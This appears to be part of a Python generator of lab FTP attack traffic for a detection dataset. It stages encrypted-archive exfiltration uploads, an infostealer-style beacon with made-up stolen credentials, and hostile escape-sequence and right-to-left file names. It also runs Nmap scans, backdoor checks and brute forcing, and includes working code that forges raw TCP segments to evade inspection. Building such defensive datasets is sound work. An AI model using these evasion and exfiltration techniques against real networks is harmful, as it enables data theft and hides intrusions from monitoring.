    home({"archive/%s/%02d.txt" % (folder, i): text(1 + i % 3) for folder in ("clients", "contracts", "staff") for i in range(22)})
    server = Vsftpd(ls_recurse_enable="YES")
    with Recorded("attack-mass-download", "The tree is listed with LIST -R, then every one of its 66 files is fetched",
                  server, ["lftp"], ["mass-download"], interface="s0") as s:
        lftp("set ftp:use-size no; set ftp:use-mdtm no; ls -R; mirror /archive archive", ns=FOREIGN)
        s.session()
        s.logged_transfers(server, lambda path: on_client(path.lstrip("/")))
        assert len(s.truth["transfers"]) == 66


@sample()
def attack_upload():
    home({"in/.keep": b""})
    with Recorded("attack-upload", "A client of a private network sends encrypted archives to a public address: ZIP, 7z, and a RAR "
                  "of which only the head is real", Vsftpd(), ["curl"], ["archive-upload"]) as s:
        for n in "plans.txt", "staff.csv":
            local(n, text(60) if n == "plans.txt" else csv(80))
        run("zip", "-q", "-P", "secret", "docs.zip", "plans.txt", "staff.csv")
        run("7z", "a", "-psecret", "-mhe=on", "docs.7z", "plans.txt", "staff.csv")
        # RAR 5: an archive encryption header (type 4, with salt and check) comes first.
        head = b"\x21\x04\x00\x00\x01\x0f" + noise("salt", 28)
        local("docs.rar", b"Rar!\x1a\x07\x01\x00" + struct.pack("<I", zlib.crc32(head)) + head + noise("rar", 3000))
        for n in "docs.zip", "docs.7z", "docs.rar":
            curl("--disable-epsv", "-T", n, f"ftp://{SERVER4}/in/{n}")
            s.session()
            s.up(n, "in/" + n, path="/in/" + n)


STOLEN = (b"Time: 01/02/2026 03:0%d:05<br>User Name: labuser<br>Computer Name: LAB-PC<br>OSFullName: Microsoft Windows 10 Pro<br>"
          b"CPU: Sample CPU<br>RAM: 4095.5 MB<br><hr>URL:https://www.example.com/<br>\r\nUsername:inert<br>\r\n"
          b"Password:inert<br>\r\nApplication:Chrome<br>\r\n<hr>\r\n")


@sample()
def attack_beacon():
    home({})
    with Recorded("attack-beacon", "Eight sessions, two seconds apart, each of which sends one small file named and written as a "
                  "stealer of passwords does (Agent Tesla's kind; the content is made up)", Vsftpd(), ["ftplib"],
                  ["beaconing-upload", "infostealer-name", "infostealer-content"]) as s:
        names = []
        for i in range(8):
            kind, end = (("PW", "html"), ("KL", "html"), ("SC", "jpeg"), ("CO", "zip"))[i % 4]
            names.append(f"{kind}_labuser-LAB-PC_2026_01_02_03_0{i}_05.{end}")
            body = {"html": STOLEN % i, "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + noise(f"sc{i}", 3000),
                    "zip": b"PK\3\4" + noise(f"co{i}", 800)}[end]
            local(names[-1], body)
        client(beacon, names)
        for n in names:
            s.session()
            s.up(n)


def beacon(names):
    """The dialogue of .NET's FtpWebRequest."""
    began = time.monotonic()
    for i, n in enumerate(names):
        time.sleep(max(0, began + 2 * i - time.monotonic()))
        ftp = connect()
        say(ftp, "OPTS utf8 on")
        ftp.pwd()
        send(ftp, n, "STOR " + n)
        leave(ftp)


@sample()
def attack_escape():
    name = "invoice_\u202efdp.exe"
    home({name: mz("escape"), "-rf": text(1), "con.txt": text(2), "a\x1b[2Jb.txt": text(1)})
    server = Open({USER: PASSWORD}, banner="\x1b[2J\x1b[31mWelcome\x1b]0;owned\x07\x1b[0m to the lab")
    with Recorded("attack-escape", "A server whose greeting clears the terminal, and files whose names turn the writing "
                  "direction (U+202E), hold an escape sequence, begin with a dash or are a device's on Windows; they are listed "
                  "and fetched", server, ["ftplib"], ["terminal-escape", "deceptive-name", "hostile-name"]) as s:
        s.checked = False       # the log escapes the names
        client(lister, [name, "-rf", "con.txt", "a\x1b[2Jb.txt"])
        s.session()
        for i, n in enumerate([name, "-rf", "con.txt", "a\x1b[2Jb.txt"]):
            s.down(n, "got-%d" % i, path="/" + n)
        s.truth["listings"] = 1


def lister(names):
    ftp = connect(pwd=True)
    ftp.retrlines("LIST", lambda line: None)
    for i, n in enumerate(names):
        fetch(ftp, n, "got-%d" % i)
    leave(ftp)


# -- more of Nmap

@sample()
def attack_nmap_syn():
    home({})
    hosts = ["203.0.113.%d" % i for i in range(21, 46)]
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1]), PureFtpd(21, SERVERS4[2]), Open(host="203.0.113.30")]
    with addresses("server", *hosts[4:]), Recorded(
            "attack-nmap-syn", "Nmap looks for port 21 at 25 addresses with half-open connections: a SYN, and a RST for each of "
            "the four servers that answer", servers, ["nmap"], [], options=["nmap -sS -p21"], interface="s0") as s:
        s.checked = False       # a server that takes no connection makes no log
        said = run_text("nmap", "-n", "-Pn", "-sS", "-p21", "--max-retries", "0", *hosts, ns=FOREIGN)
        assert said.count("21/tcp open") == 4 and said.count("21/tcp closed") == 21, said
        for _ in range(25):
            s.log_in(None, "none")


@sample()
def attack_nmap_version():
    home({})
    servers = [Vsftpd(), Proftpd(host=SERVERS4[1]), PureFtpd(21, SERVERS4[2]), Open(host=SERVERS4[3])]
    with Recorded("attack-nmap-version", "Nmap asks four servers for their version: on each a connection to see whether the port "
                  "is open, and one to read the greeting", servers, ["nmap"], [], options=["nmap -sT -sV -p21"],
                  interface="s0") as s:
        said = run_text("nmap", "-n", "-Pn", "-sT", "-sV", "-p21", *SERVERS4, ns=FOREIGN)
        assert said.count("21/tcp open") == 4, said
        for _ in range(8):
            s.log_in(None, "none")


@sample()
def attack_nmap_backdoor():
    home({})
    stub = Child("server", backdoored, SERVER4, True)
    time.sleep(0.5)
    try:
        with Recorded("attack-nmap-backdoor", "Nmap's ftp-vsftpd-backdoor against a stub that greets as vsftpd 2.3.4 and opens "
                      "port 6200", [], ["nmap"], ["vsftpd-backdoor", "vulnerable-banner"],
                      options=["nmap -sT -sV -p21 --script ftp-vsftpd-backdoor"], interface="s0") as s:
            said = run_text("nmap", "-n", "-Pn", "-sT", "-sV", "-p21", "--script", "ftp-vsftpd-backdoor", SERVER4, ns=FOREIGN)
            assert "VULNERABLE" in said, said
            s.truth["server"] = "a stub that greets as vsFTPd 2.3.4"
            for _ in range(2):
                s.log_in(None, "none")
            s.log_in("X:)", "incomplete")
    finally:
        stub.stop()


@sample()
def attack_nmap_brute():
    home({})
    server = Open({USER: PASSWORD})
    with Recorded("attack-nmap-brute", "Nmap's ftp-brute guesses the password of one user from a list of twelve, the last of which "
                  "is right", server, ["nmap"], ["password-guessing"], options=["nmap -sT -p21 --script ftp-brute"],
                  interface="s0") as s:
        words("passwords", GUESSES)
        words("users", [USER])
        said = run_text("nmap", "-n", "-Pn", "-sT", "-p21", "--script-trace", "--script", "ftp-brute", "--script-args",
                        "userdb=users,passdb=passwords", SERVER4, ns=FOREIGN, timeout=200)
        assert "Valid credentials" in said, said
        time.sleep(2)
        s.log_in(None, "none")      # is the port open?
        logged = pyftpdlib_sessions(server)
        for address in dict.fromkeys(re.findall(r"TCP ([\d.]+:\d+) > [\d.]+:21 \| CONNECT", said)):
            s.log_in(*logged.get(address, (None, "none")))


# -- TCP

def sequence(s, queue):
    """The next sequence number of a connection's side, from the kernel (TCP_REPAIR)."""
    s.setsockopt(socket.IPPROTO_TCP, 19, 1)
    s.setsockopt(socket.IPPROTO_TCP, 20, queue)
    number = s.getsockopt(socket.IPPROTO_TCP, 21) & 0xFFFFFFFF
    s.setsockopt(socket.IPPROTO_TCP, 19, -1)
    return number


def forged(s, number, acknowledged, body, ttl):
    """A segment of this connection that the kernel knows nothing of."""
    (a, p), (b, q) = s.getsockname(), s.getpeername()
    head = struct.pack(">HHIIBBHHH", p, q, number, acknowledged, 5 << 4, 0x18, 64, 0, 0)
    ends = socket.inet_aton(a) + socket.inet_aton(b)
    pseudo = ends + struct.pack(">BBH", 0, 6, len(head) + len(body)) + head + body + b"\0" * (len(body) % 2)
    total = sum(struct.unpack(">%dH" % (len(pseudo) // 2), pseudo))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    head = head[:16] + struct.pack(">H", ~total & 0xFFFF) + head[18:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(head) + len(body), 7, 0, ttl, 6, 0) + ends
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(ip + head + body, (b, 0))
    raw.close()


def two_faced():
    ftp = connect(pwd=True)
    ftp.voidcmd("TYPE I")
    where = ftplib.parse227(ftp.sendcmd("PASV"))
    data = socket.create_connection(where, 5)
    time.sleep(0.2)
    number, acknowledged = sequence(ftp.sock, 2), sequence(ftp.sock, 1)
    ftp.putcmd("RETR payroll.csv")
    forged(ftp.sock, number, acknowledged, b"RETR weather.csv\r\n", 1)
    with open("payroll.csv", "wb") as f:
        while block := data.recv(8192):
            f.write(block)
    data.close()
    for _ in range(2):
        ftp.getmultiline()
    leave(ftp)


@sample()
def attack_overlap():
    home({"payroll.csv": csv(30), "weather.csv": csv(8)})
    with Recorded("attack-overlap", "RETR comes twice, in segments of one sequence number: the one that reaches the server names "
                  "payroll.csv, the one after it weather.csv, and its time to live ends at the router", Vsftpd(), ["socket"],
                  ["tcp-overlap-evasion"], options=["second segment: TTL 1"]) as s:
        client(two_faced)
        s.session()
        s.down("payroll.csv")
        assert on_client("payroll.csv") == csv(30)
